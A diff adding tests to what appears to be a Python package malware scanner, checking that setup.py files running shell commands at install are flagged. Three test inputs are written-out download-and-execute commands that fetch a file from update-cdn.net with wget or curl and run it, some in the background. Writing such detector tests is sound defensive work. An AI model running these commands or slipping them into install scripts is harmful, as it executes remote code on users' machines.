@@ -3252,6 +3252,43 @@ def test_setup_chaining_only_build_steps_and_text_filters_is_a_build_command(com
     assert result.verdict not in FLAGGED
 
 
+_SHELL_AT_INSTALL = """
+import os
+from setuptools import setup
+
+os.system({command!r})
+setup(name="demo")
+"""
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git --version && wget -q https://update-cdn.net/x -O /tmp/x && /tmp/x",
+        "curl -so /tmp/.u https://update-cdn.net/a; nohup /tmp/.u &",
+        "wget -O ~/x https://update-cdn.net/x; ~/x --run",
+    ],
+)
+def test_starting_the_file_a_shell_download_saved_is_download_and_execute(command):
+    """The saved file started by its own path, not only through chmod, ./, sh or python."""
+    result = scan({"setup.py": _SHELL_AT_INSTALL.format(command=command)})
+    assert "critical" in severities(result, "intent.shell-download-execute")
+    assert result.verdict == "malicious"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -L -o v.zip https://github.com/o/r/archive/v1.zip && unzip v.zip",
+        "curl -L -o v.tgz https://github.com/o/r/archive/v1.tgz && tar xzf v.tgz",
+        "curl -o out.bin https://github.com/o/r/releases/download/v1/a && sha256sum out.bin",
+    ],
+)
+def test_a_shell_download_then_read_by_another_tool_is_not_download_and_execute(command):
+    result = scan({"setup.py": _SHELL_AT_INSTALL.format(command=command)})
+    assert not found(result, "intent.shell-download-execute")
+
+
 _OWN_SCRIPT = """
 import subprocess
 from setuptools import setup
